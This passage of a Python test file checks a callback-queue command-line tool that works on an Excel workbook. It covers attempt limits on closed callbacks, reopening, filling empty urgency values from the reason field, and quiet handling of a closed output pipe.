    done = cli("attempt", "CB-00002", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=folder)
    assert done.returncode == 1 and "is closed (Status Booked)" in done.stderr
    done = cli("attempt", "CB-00003", "--outcome", "No answer", "--now", "2026-12-01T15:10", cwd=folder)
    assert done.returncode == 1
    assert (
        "CB-00003 has used its 3 attempts (3 recorded): no attempt was recorded. "
        "Next step: set Status to No response" in done.stderr
    )
    done = cli("script", "CB-00002", cwd=folder)
    assert done.returncode == 1 and done.stdout == ""
    assert "CB-00002 is closed (Status Booked): no callback is due, so there is no script" in done.stderr
    assert config.workbook.read_bytes() == before  # nothing written by any of them
    done = cli(
        "attempt", "CB-00001", "--outcome", "Reached", "--reopen", "--now", "2026-12-01T15:10", cwd=folder
    )
    assert done.returncode == 0, done.stderr
    assert "reopened CB-00001: Status No response set back to In progress" in done.stderr
    done = cli(
        "attempt",
        "CB-00003",
        "--outcome",
        "No answer",
        "--status",
        "No response",
        "--now",
        "2026-12-01T15:20",
        cwd=folder,
    )
    assert done.returncode == 0, done.stderr  # the last attempt that closes it is allowed
    assert _statuses(config.workbook) == [
        ("CB-00001", "In progress", 4, "Reached"),
        ("CB-00002", "Booked", 1, "Booked"),
        ("CB-00003", "No response", 4, "No answer"),
    ]
    assert cli("script", "CB-00001", cwd=folder).returncode == 0


def test_refresh_fills_an_empty_urgency_from_the_reason_only(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue(
        [
            row("2026-12-01 09:10", Reason="Clinical concern"),
            row("2026-12-01 09:20", Reason="Billing"),
            row("2026-12-01 09:30", Reason="Clinical concern", Urgency="Routine"),  # staff's choice stays
            row("2026-12-01 09:40", Reason="Billing", Urgency="urgentish"),  # a wrong value stays too
            row("2026-12-01 09:50", Reason="Not a reason"),  # no reason to take it from: stays empty
        ]
    )
    outcome = service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
    assert outcome.plan.summary.urgency_filled == 2
    grid = read_sheet(config.workbook, model.QUEUE_TAB)
    col = list(grid[0]).index(model.URGENCY)
    assert [r[col] for r in grid[1:]] == ["Urgent", "Routine", "Routine", "urgentish", None]
    again = service.refresh(config=config, backend=ExcelBackend(config.workbook), now=NOW)
    assert again.plan.summary.urgency_filled == 0


# --- broken pipe -------------------------------------------------------------------------------------------
def test_a_closed_stdout_pipe_ends_the_command_quietly(config: Config, make_queue) -> None:  # type: ignore[no-untyped-def]
    make_queue([row(f"2026-12-01 {8 + i % 9:02d}:{i % 60:02d}") for i in range(40)])
    folder = config.workbook.parent
    for args in (("queue",), ("queue", "--json"), ("report", "daily", "--date", "2026-12-01", "--csv")):
        read, write = os.pipe()
        os.close(read)  # the reader is gone before the first line (`| head -0`, a pager quit at once)
        proc = subprocess.run(
            [str(Path(sys.executable).parent / "callback-sheets"), *args, "--now", "2026-12-01T15:00"],
            cwd=folder, stdout=write, stderr=subprocess.PIPE, text=True, timeout=60,
        )  # fmt: skip
        os.close(write)
        assert proc.returncode == 0, (args, proc.stderr)  # the status it would have had
        assert "Error" not in proc.stderr and "error" not in proc.stderr, proc.stderr
    head = subprocess.run(
        f"{Path(sys.executable).parent / 'callback-sheets'} queue --now 2026-12-01T15:00 | head -3",
        shell=True, cwd=folder, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert len(head.stdout.splitlines()) == 3 and "error" not in head.stderr
